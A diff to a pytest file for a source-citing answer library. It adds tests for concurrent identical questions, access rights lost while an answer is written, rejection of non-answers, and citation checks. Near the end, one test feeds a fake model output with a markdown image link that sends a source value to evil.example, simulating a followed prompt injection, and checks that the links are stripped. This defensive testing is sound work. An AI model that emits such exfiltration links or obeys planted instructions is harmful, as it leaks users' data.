@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
-from collections.abc import AsyncIterator, Callable
+from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
+import anyio
 import pytest
 from markdown_it import MarkdownIt
 
@@ -15,9 +16,11 @@ from corpus.generation.promise import Generated, Prompt
 from corpus.index.local import LocalIndex
 from corpus.index.promise import NewBlock
 from corpus.library import Library
+from corpus.synthesis.answer import Synthesis
 from corpus.synthesis.pen import Pen
 from corpus.synthesis.prompting import Instructions
 from corpus.synthesis.request import Observation, SynthesisRequest, Turn
+from tests.patience import PATIENCE
 from tests.shelf import PICTURE, a_document
 from tests.values import image_block, text_block
 
@@ -151,7 +154,7 @@ async def test_a_model_that_fails_costs_its_text_alone(shelf: Shelf, failure: Ex
 
 
 async def test_what_the_client_s_model_wrote_comes_before_the_endpoint(shelf: Shelf) -> None:
-    endpoint, client = Model("From the endpoint [1]."), Model("From the client [1].", id="client")
+    endpoint, client = Model("The pump turns [1]."), Model("It turns [1].", id="client")
     library = shelf(endpoint)
     await library.drafted(asking(), ANN)
     made = await library.synthesize(asking(), ANN, client)
@@ -235,7 +238,7 @@ async def test_a_text_that_changed_while_the_client_s_model_wrote_costs_its_answ
 
 
 async def test_what_a_client_s_model_wrote_is_given_to_no_other_client(shelf: Shelf) -> None:
-    library, client = shelf(Model("By the endpoint [1].")), Model("By the client [1].", id="client")
+    library, client = shelf(Model("The pump turns [1].")), Model("It turns [1].", id="client")
     await library.drafted(asking(), ANN)
     assert (await library.synthesize(asking(), ANN, client)).model == "client"
     other = await library.synthesize(asking(), ANN)
@@ -260,7 +263,7 @@ async def test_a_check_that_fails_leaves_the_composed_answer(
     monkeypatch.setattr("corpus.synthesis.model_answer.inert", fails)
     made = await shelf(Model("It turns [1].")).synthesize(asking(), ANN)
     assert made.mode == "compose"
-    assert any("composed of excerpts" in one for one in made.warnings)
+    assert "model-1 wrote an answer that could not be checked." in made.warnings
 
 
 async def test_a_marker_in_a_code_span_opens_nothing_when_it_is_named(shelf: Shelf) -> None:
@@ -288,9 +291,10 @@ async def test_what_the_client_hands_in_comes_first_where_it_speaks_to_the_quest
 
 
 async def test_the_flaws_of_a_model_s_answer_are_told_in_words(shelf: Shelf) -> None:
-    made = await shelf(Model("It costs 77 euros [1]. It shines. It is new [99].")).synthesize(asking(), ANN)
-    assert "Claims that do not stand in the sources that they cite: 1 of 3." in made.warnings
-    assert "Claims without a citation: 1 of 3." in made.warnings
+    flawed = "The pump turns [1]. It costs 77 euros [1]. It shines. It is new [99]."
+    made = await shelf(Model(flawed)).synthesize(asking(), ANN)
+    assert "Claims that do not stand in the sources that they cite: 1 of 4." in made.warnings
+    assert "Claims without a citation: 1 of 4." in made.warnings
     assert "Citations of no source: 99." in made.warnings
 
 
@@ -315,6 +319,156 @@ async def test_a_written_answer_serves_again_and_says_so(shelf: Shelf) -> None:
     assert len(model.asked) == 1
 
 
+@dataclass
+class Slow(Model):
+    """Writes when it is told to."""
+
+    go: anyio.Event = field(default_factory=anyio.Event)
+
+    async def generate(self, prompt: Prompt) -> Generated:
+        self.asked.append(prompt)
+        await self.go.wait()
+        if isinstance(self.writes, Exception):
+            raise self.writes
+        return Generated(self.writes)
+
+
+async def all_at_once(
+    library: Library,
+    model: Slow,
+    callers: list[Caller],
+    meanwhile: Callable[[], Awaitable[None]] | None = None,
+) -> list[Synthesis]:
+    """Their answers to one question; the model writes when all of them wait for it."""
+    made: dict[int, Synthesis] = {}
+
+    async def ask(n: int, caller: Caller) -> None:
+        made[n] = await library.synthesize(
+            asking("What does the pump team earn? How fast does it turn?"), caller
+        )
+
+    async with anyio.create_task_group() as group:
+        for n, caller in enumerate(callers):
+            group.start_soon(ask, n, caller)
+        waiting = library._synthesizer._flights._under_way
+        with anyio.fail_after(PATIENCE):
+            while len(model.asked) < len(set(callers)) or sum(
+                one.landed.statistics().tasks_waiting for one in waiting.values()
+            ) < len(callers) - len(set(callers)):
+                await anyio.sleep(0.01)
+        if meanwhile:
+            await meanwhile()
+        model.go.set()
+    return [made[n] for n in range(len(callers))]
+
+
+async def test_ten_equal_questions_at_once_are_written_for_once(shelf: Shelf) -> None:
+    model = Slow("The pump turns [1].")
+    made = await all_at_once(shelf(model, keep=0), model, [ANN] * 10)
+    assert len(model.asked) == 1
+    assert {one.model for one in made} == {"model-1"}
+    assert len({one.answer for one in made}) == 1
+
+
+async def test_two_callers_who_ask_the_same_at_once_share_nothing(shelf: Shelf) -> None:
+    model = Slow("The pump team earns 90,000 a year [1].")
+    await all_at_once(shelf(model), model, [ANN, BOB, ANN])
+    assert len(model.asked) == 2
+    assert sum("90,000" in one.text for one in model.asked) == 1
+
+
+async def test_a_right_that_is_lost_while_several_wait_costs_each_of_them_the_answer(shelf: Shelf) -> None:
+    model = Slow("The pump team earns 90,000 a year [1].")
+    library = shelf(model)
+    index = library._index
+    assert isinstance(index, LocalIndex)
+
+    async def taken_away() -> None:
+        row = replace(HEADCOUNT, access_control_list=("user:carl",))
+        await index.replace(a_document("pay", access_control_list=("user:carl",)), [NewBlock(row)])
+
+    for made in await all_at_once(library, model, [BOB] * 3, taken_away):
+        assert "90,000" not in made.answer
+        assert "The sources changed while the answer was written, so it is not given." in made.warnings
+
+
+async def test_a_failure_is_told_to_all_who_waited_and_is_not_kept(shelf: Shelf) -> None:
+    model = Slow(LLMError("it is busy."))
+    library = shelf(model)
+    for made in await all_at_once(library, model, [ANN] * 3):
+        assert made.mode == "compose"
+        assert "model-1 wrote no answer: it is busy." in made.warnings
+    assert len(model.asked) == 1
+    model.writes = "The pump turns [1]."
+    assert (await library.synthesize(asking(), ANN)).mode == "llm"
+
+
+@pytest.mark.parametrize(
+    ("rubbish", "why"),
+    [
+        ("<html><body>502</body></html>", "HTML"),
+        ('{"error": "x"}', "JSON"),
+        ("no " * 200, "again and again"),
+        ("I'm sorry, I can't help with that.", "declined"),
+        ("\u200b", "states nothing"),
+        ("Which one do you mean?", "states nothing"),
+        (
+            "Cheese is made of milk, and bread is made of flour [1]. Both are eaten in the evening [2].",
+            "stands in any",
+        ),
+    ],
+)
+async def test_what_is_no_answer_falls_through_to_the_next_and_says_why(
+    shelf: Shelf, rubbish: str, why: str
+) -> None:
+    client, endpoint = Model(rubbish, id="client"), Model("The pump turns [1].")
+    library = shelf(endpoint, keep=60)
+    await library.drafted(asking(), ANN)
+    made = await library.synthesize(asking(), ANN, client)
+    assert (made.mode, made.model) == ("llm", "model-1")
+    (said,) = [one for one in made.warnings if one.startswith("client wrote no answer: ")]
+    assert why in said
+
+
+async def test_rubbish_of_every_model_leaves_the_composed_answer_and_is_not_kept(shelf: Shelf) -> None:
+    model = Model('{"error": "x"}')
+    library = shelf(model)
+    made = await library.synthesize(asking(), ANN)
+    assert made.mode == "compose"
+    assert "2900 revolutions" in made.answer
+    assert "model-1 wrote no answer: its text is JSON." in made.warnings
+    model.writes = "The pump turns [1]."
+    assert (await library.synthesize(asking(), ANN)).mode == "llm"
+
+
+async def test_a_claim_that_stands_in_another_source_than_it_cites_is_told_and_the_answer_kept(
+    shelf: Shelf,
+) -> None:
+    model = Model()
+    library = shelf(model, keep=0)
+    n = await number_of(library, model, 12)
+    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
+    made = await library.synthesize(asking(), ANN)
+    assert made.mode == "llm"
+    assert made.unsupported_claims == ("The pump turns at 2900 revolutions per minute.",)
+    assert "(a value differs from the source)" in made.answer
+
+
+async def test_an_answer_in_another_language_than_the_sources_is_not_taken_for_rubbish(shelf: Shelf) -> None:
+    german = "Die Anlage dreht sich ziemlich schnell und ist aus schwerem Metall hergestellt worden [1]."
+    made = await shelf(Model(german)).synthesize(
+        asking("Wie schnell ist die Pumpe und wie schwer ist sie?"), ANN
+    )
+    assert made.mode == "llm"
+    assert "(nicht in der genannten Quelle gefunden)" in made.answer
+
+
+@pytest.mark.parametrize("said", ["Not found in the provided sources.", "Das steht nicht in den Quellen."])
+async def test_not_found_in_other_words_is_not_found(shelf: Shelf, said: str) -> None:
+    made = await shelf(Model(said)).synthesize(asking(), ANN)
+    assert (made.answer, made.mode) == ("Not found in sources", "llm")
+
+
 async def test_another_caller_and_a_changed_source_are_written_for_anew(shelf: Shelf) -> None:
     model = Model("It turns [1].")
     library = shelf(model)
@@ -331,7 +485,7 @@ async def test_another_caller_and_a_changed_source_are_written_for_anew(shelf: S
 
 
 async def test_what_only_bob_may_read_reaches_no_prompt_of_ann(shelf: Shelf) -> None:
-    model = Model("x")
+    model = Model("The pump turns [1].")
     library = shelf(model)
     await library.synthesize(asking("What does the pump team earn?"), ANN)
     assert "90,000" not in model.asked[0].text
@@ -342,7 +496,7 @@ async def test_what_only_bob_may_read_reaches_no_prompt_of_ann(shelf: Shelf) -> 
 
 
 async def test_an_instruction_in_a_document_that_a_model_followed_fetches_nothing(shelf: Shelf) -> None:
-    model = Model("Done [1]. ![x](https://evil.example/?q=2900) [more](https://evil.example)")
+    model = Model("The pump turns [1]. ![x](https://evil.example/?q=2900) [more](https://evil.example)")
     made = await shelf(model).synthesize(asking(), ANN)
     assert "evil.example" not in made.answer
     assert any("taken out" in one for one in made.warnings)
